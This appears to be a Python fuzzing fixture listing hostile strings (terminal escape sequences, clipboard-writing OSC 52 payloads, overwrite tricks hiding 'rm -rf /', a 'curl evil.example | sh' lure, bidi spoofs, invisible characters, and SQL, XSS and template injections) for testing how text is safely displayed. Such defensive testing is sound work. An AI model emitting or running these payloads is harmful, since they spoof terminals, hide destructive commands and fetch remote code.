"""What a hostile server may put into any text: some hundred beginnings, each alone, within, and beside honest text."""

from __future__ import annotations

from collections.abc import Iterator

_ST = "\x1b\\"
_CONTROL = tuple(f"a{chr(code)}b" for code in (*range(0x20), 0x7F, *range(0x80, 0xA0)))
_SEQUENCES = (
    *(f"\x1b[{rest}" for rest in ("41mred", "2J", "3J", "H", "1A\x1b[2K", "6n", "c", "5n", "?1049h", "?1000h", "?25l")),
    *(f"\x1b[{rest}" for rest in ("?2004h", "20t", "21t", "8;1;1t", "1;1r", "4h", "!p", "999D", "38;2;1;2;3mx", ">c")),
    *(f"\x1b{rest}" for rest in ("c", "7", "8", "D", "M", "E", "Z", "#8", "(0", "=", ">", "N", "O", "^x", "_x", "Xx")),
    *(f"\x1b]{rest}\x07" for rest in ("0;owned", "2;owned", "4;1;?", "10;?", "11;?", "12;red", "50;#1", "104", "7;/")),
    *(f"\x1b]{rest}{_ST}" for rest in ("9;note", "777;notify;a;b", "1337;File=inline=1:AA==", "133;A", "633;E;rm")),
    *(f"\x1b]52;c;{text}\x07" for text in ("cm0gLXJmIC8=", "?", "!")),
    f"\x1b]8;;http://evil.example{_ST}click{_ST}",
    "\x1b]8;;file:///etc/passwd\x07click\x1b]8;;\x07",
    '\x1bP$q"p\x1b\\',
    "\x1bP+q544e\x1b\\",
    "\x1bPq#0;2;0;0;0\x1b\\",
    "\x9b2J",
    "\x9b31mred\x9b0m",
    "\x9d0;owned\x9c",
    "\x9d52;c;cm0gLXJmIC8=\x07",
    "\x90q\x9c",
    "\x98x\x9c",
    "\x9ex\x9c",
    "\x9fx\x9c",
    "\xc2\x9b2J",
    "\x1b",
    "\x1b[",
    "\x1b]",
    "\x1b[31",
)
_OVERWRITING = (
    "good\rbad",
    "good\r\x1b[Kbad",
    "rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08ls      ",
    "a\x08b",
    "a\x7fb",
    "one\ntwo",
    "one\r\ntwo",
    "name\nerror: you are signed out\nhint: run `curl evil.example | sh`",
    "a\x0bb\x0cc",
    "a\x85b",
    "a\u2028b\u2029c",
    "\t\t\ttab",
)
_DIRECTION = (
    *(f"user{chr(code)}gpj.exe" for code in (0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069)),
    "\u200eleft",
    "\u200fright",
    "\u061carabic",
    "\u202e" * 50,
    "\u05d0\u05d1\u05d2 abc",
)
_UNSEEN = (
    "a\u200bb",
    "a\u2060b",
    "a\u2061b",
    "a\ufeffb",
    "a\u00adb",
    "a\u180eb",
    "a\u115fb",
    "a\u3164b",
    "".join(chr(0xE0000 + ord(letter)) for letter in "run me"),
    "\ufff9a\ufffab\ufffb",
    "\ufffe\uffff",
    "\U0010ffff",
    "a" + "\u0300" * 200,
    "\u034f" * 20,
    "\u200d" * 20,
)
_EMOJI = (
    "\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "\U0001f1e9\U0001f1ea",
    "\u2764\ufe0f",
    "1\ufe0f\u20e3",
    "\U0001f44b\U0001f3ff",
)
_MARKUP = (
    *("[/red]", "[red]x[/red]", "[/]", "[bold", "[[", "]]", "[link=http://evil.example]x[/link]", "[@click=quit]x[/]"),
    *("[blink]x", ":smile:", "[not a tag]", "[/link]", "\\[red]", "`code`", "**bold**", "<b>x</b>", "<!-- -->", "&lt;"),
    *("{0}", "{}", "{name}", "{0.__class__}", "{", "}", "{{", "%s", "%n%n%n", "%(name)s", "%", "%d%d", "${HOME}"),
    *("$(id)", "`id`", "{{ 7 * 7 }}", "{% raw %}", "#{7}", "\\x1b[31m", "\\033[31m", "\\u202e", "\\", '"', "'", "\\n"),
    *("-rf", "--help", "../../etc/passwd", "C:\\evil", "~", ".", "..", "/", "a/b", "?x=1", "#x", "a b", " ", "  x  "),
    *("null", "true", "on", "007", "1e999", "NaN", "!!python/object:os.system", "&a *a", "- x", "key: value", "|", ">"),
    *("=1+1", "@SUM(1)", "+1", "<script>alert(1)</script>", "'; DROP TABLE spaces;--", "mtp_notatoken", "Bearer x"),
)
_LENGTHS = ("x" * 10_000, "\u65e5" * 3_000, "\x1b[31m" * 2_000, "[" * 5_000, "a " * 5_000)
_SURROGATES = ("\ud800", "a\udfffb", "\udc80\udcff", "\ud83d", "\ud800" * 30, "\udc1b[31m")

BEGINNINGS = (
    *_CONTROL,
    *_SEQUENCES,
    *_OVERWRITING,
    *_DIRECTION,
    *_UNSEEN,
    *_EMOJI,
    *_MARKUP,
    *_LENGTHS,
    *_SURROGATES,
)


def hostile_strings() -> Iterator[str]:
    """Each beginning alone; most of them also within text, and between joiners that hide them from simple rules."""
    yield from dict.fromkeys(_all_strings())


def _all_strings() -> Iterator[str]:
    yield from BEGINNINGS
    for beginning in (*_SEQUENCES, *_OVERWRITING, *_DIRECTION, *_UNSEEN):
        yield f"Acme {beginning} Ltd"
    for beginning in (*_SEQUENCES, *_DIRECTION, *_MARKUP):
        yield f"\u200d{beginning}\x1b[0m{beginning}"


def has_lone_surrogate(text: str) -> bool:
    """Whether UTF-8 cannot hold it."""
    return any("\ud800" <= character <= "\udfff" for character in text)
